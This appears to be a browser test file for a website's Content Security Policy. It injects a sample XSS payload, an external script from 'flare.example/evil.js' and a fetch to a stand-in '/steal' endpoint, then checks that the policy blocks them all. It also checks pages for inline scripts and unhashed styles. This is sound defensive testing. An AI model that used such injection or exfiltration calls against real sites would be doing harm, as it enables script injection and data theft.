import { createHash } from "node:crypto";
import { pagePaths } from "../src/site-map.ts";
import { builtPages } from "./built-pages.ts";
import { expect, open, test } from "./test.ts";

test("Content Security Policy blocks injected scripts, styles and requests, and the tests report it", async ({
  page,
  expectViolation,
  noise,
}) => {
  expectViolation("require-trusted-types-for", "style-src-attr", "connect-src");
  await open(page, "/products");
  const ran = await page.evaluate(async () => {
    const attempt = (action: () => unknown) => {
      try {
        action();
      } catch {
        // Trusted Types refuse with an error.
      }
    };
    const script = document.createElement("script");
    attempt(() => {
      document.body.innerHTML += "<img src=x onerror='window.ran = true'>";
    });
    attempt(() => {
      script.textContent = "window.ran = true";
    });
    attempt(() => {
      script.src = "https://flare.example/evil.js";
    });
    document.body.append(script);
    document.body.setAttribute("style", "color: red");
    await fetch("https://flare.example/steal").catch(() => {});
    return "ran" in window;
  });
  expect(ran).toBe(false);
  noise.length = 0;
});

// `test.fail` expects the test to fail.
test.fail(
  "unexpected Content Security Policy violation in any tab fails the test, even if it clears noise",
  async ({ page, context, noise }) => {
    await open(page, "/products");
    const other = await context.newPage();
    await open(other, "/products/flare-62kw");
    const reported = other.waitForEvent("console", (message) => message.text().startsWith("policy: style-src-attr"));
    await other.evaluate(() => document.body.setAttribute("style", "color: red"));
    await reported;
    noise.length = 0;
  },
);

const stylesIn = (html: string) => [...html.matchAll(/<style>(.*?)<\/style>/gs)].map(([, text = ""]) => text);
const hashOf = (text: string) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;

test("pages have no inline script, no style attribute, and only styles that the CSP allows by hash", async ({
  request,
}) => {
  // The policy is the same for all pages, and allows no styles but theirs.
  const hashes = new Set(builtPages().flatMap(({ html }) => stylesIn(html).map(hashOf)));
  for (const path of pagePaths()) {
    const response = await request.get(path);
    expect(response.status(), path).toBe(200);
    const html = await response.text();
    // Scripts with a JSON type are data and never run.
    const inline = html.match(/<script(?![^>]*\ssrc=)[^>]*>/g) ?? [];
    expect
      .soft(
        inline.filter((tag) => !/^<script type="application\/(ld\+)?json"/.test(tag)),
        path,
      )
      .toEqual([]);
    expect.soft(html.match(/\sstyle="/g), path).toBeNull();
    expect.soft(html.match(/<style/g), path).toHaveLength(1);
    const [, allowed = ""] = /style-src ([^;]*);/.exec(response.headers()["content-security-policy"] ?? "") ?? [];
    expect.soft(allowed.split(" ").sort(), path).toEqual(["'self'", ...hashes].sort());
    expect.soft(hashes, path).toContain(stylesIn(html).map(hashOf).join());
  }
});
